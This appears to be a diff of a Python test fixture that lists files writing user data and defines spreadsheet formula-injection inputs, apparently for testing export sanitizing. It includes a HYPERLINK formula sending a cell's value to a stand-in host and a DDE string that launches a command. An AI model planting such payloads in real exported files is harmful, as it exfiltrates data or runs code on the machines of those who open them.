@@ -31,7 +31,7 @@ OF_DATA = {
     "probcal/try_table/experiment_files.py": "writes rows of data, from which the very values are read again",
     "probcal/try_table/export.py": "writes the identifiers of a user's own rows, to be joined to them",
     "probcal/deploy/model_folder.py": "writes the identifiers of a user's own rows, to be joined to them",
-    "probcal/reading/added_columns.py": "writes the columns of a user's own file as they are there",
+    "probcal/reading/output_file.py": "writes the columns of a user's own file as they are there",
 }
 FORMULA = '=HYPERLINK("http://elsewhere.example/?x="&A1,"click")'
 LABELS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx", "  =1+1", "\uff1d1"]
